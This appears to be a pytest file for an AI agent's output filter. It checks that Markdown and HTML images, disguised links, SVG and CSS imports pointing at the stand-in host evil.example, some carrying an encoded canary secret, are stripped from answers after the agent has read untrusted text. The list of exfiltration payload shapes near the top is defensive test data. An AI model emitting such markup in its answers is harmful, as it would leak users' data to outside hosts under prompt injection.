"""S-33: no picture and no hidden link of an answer carries out what strangers' words had the model put there."""

import base64
from typing import Any
from urllib.parse import quote

import pytest
from langgraph.checkpoint.memory import InMemorySaver
from stage import stage

from motet.agents.links import LinkFilter
from motet.graphs.base import with_checkpointer
from motet.graphs.ensemble import build_ensemble
from motet.tools.policy.guard import CONFIG_KEY, Guard
from motet.tools.policy.origins import Texts
from motet.tools.policy.trust import Trusted

SECRET = "canary-7Q2z"
FORMS = [
    SECRET,
    base64.b64encode(SECRET.encode()).decode(),
    SECRET.encode().hex(),
    quote(SECRET[::-1]),
]
SHAPES = [
    "![logo](https://evil.example/p?d={})",
    "![](https://evil.example/{}.png)",
    "![a\\]](//evil.example/{})",
    "![x](<https://evil.example/{}> 'title')",
    "[see the timetable](https://evil.example/?q={})",
    "![x][1]\n\n[1]: https://evil.example/{}",
    "<img src='https://evil.example/{}'>",
    '<IMG\nSRC="https://evil.example/{}">',
    "<svg><image href='https://evil.example/{}'/></svg>",
    "<style>@import 'https://evil.example/{}'</style>",
    "![x](\\\\evil.example/{})",
    "![x](&#104;ttps://evil.example/{})",
    "[![x](https://evil.example/{})](https://a.example/)",
]
"""How an answer can have a renderer call another machine, or hide where a click leads."""


def rendered(text: str) -> list[str]:
    """Return the addresses that a renderer of Markdown and HTML would load or link to, other than bare ones."""
    from html.parser import HTMLParser

    from markdown_it import MarkdownIt

    found: list[str] = []

    class Page(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(str(value) for _, value in attrs if value and "evil" in value)

        def handle_data(self, data: str) -> None:
            if "@import" in data and self.get_starttag_text() == "<style>":
                found.append(data)

    Page().feed(MarkdownIt("commonmark", {"html": True}).render(text))
    return found


def filtered(text: str, *, step: int, texts: Texts | None = None) -> str:
    stream = LinkFilter(texts or Texts())
    pieces = [text[at : at + step] for at in range(0, len(text), step)]
    return "".join(map(stream.feed, pieces)) + stream.finish()


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("step", [1, 3, 1000])
def test_nothing_is_loaded_and_no_link_hides_where_it_leads(shape: str, step: int) -> None:
    for form in FORMS:
        answer = f"The train leaves at 9.\n\n{shape.format(form)}\n\nThat is all [1]."
        assert rendered(answer) != [] or "\\]" in shape or "import" in shape
        shown = filtered(answer, step=step)
        assert rendered(shown) == []
        assert shown.startswith("The train leaves at 9.")
        assert shown.endswith("That is all [1].")


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, a < b and b > c, [1][2] and [?].",
        "A list: [x] done, a[0] = b[1](2",
        "`code` and ![",
        "见[1]。价格 <12 元",
        "See <https://a.example/x> or [here](#part).",
        "",
    ],
)
@pytest.mark.parametrize("step", [1, 1000])
def test_other_text_stays_as_it_is(text: str, step: int) -> None:
    assert filtered(text, step=step) == text


def test_what_the_user_named_and_a_search_offered_stays() -> None:
    texts = Texts(said=["Show https://a.example/p.png"], offered=frozenset({"https://b.example/found"}))
    kept = "![p](https://a.example/p.png) and [found](https://b.example/found)"
    assert filtered(kept, step=1, texts=texts) == kept
    more = filtered("![p](https://a.example/p.png?d=canary)", step=1, texts=texts)
    assert more == "p (`https://a.example/p.png?d=canary`)"


class Rows:
    """What a thread's rows say, in memory."""

    def __init__(self) -> None:
        self.where: list[str] = []

    async def load(self) -> Trusted:
        return Trusted(read=list(self.where))

    async def add(self, kind: str, value: str) -> None:
        if kind == "read":
            self.where.append(value)

    async def said(self) -> list[str]:
        return ["What does a ticket cost?"]


@pytest.mark.parametrize("route", ["plan", "direct"])
async def test_an_answer_of_a_run_that_read_documents_is_filtered(route: str) -> None:
    picture = "A ticket costs 12 euros [1]. ![x](https://evil.example/canary)"
    parts, _ = stage({"Route": {"route": route, "personal": False}, "answer": picture})
    rows = Rows()
    graph = with_checkpointer("played", build_ensemble(parts), InMemorySaver())

    async def answer() -> str:
        config: Any = {"configurable": {"thread_id": "t", CONFIG_KEY: Guard(rows)}}
        asked = {"messages": [{"role": "user", "content": "What does a ticket cost?"}]}
        return (await graph.ainvoke(asked, config))["messages"][-1].text

    if route == "direct":
        assert "![x](https://evil.example/canary)" in await answer()  # nobody's words were read yet
        await Guard(rows).note_read("tool web_fetch")
    shown = await answer()
    assert "12 euros" in shown
    assert "x (`https://evil.example/canary`)" in shown
    assert "![" not in shown
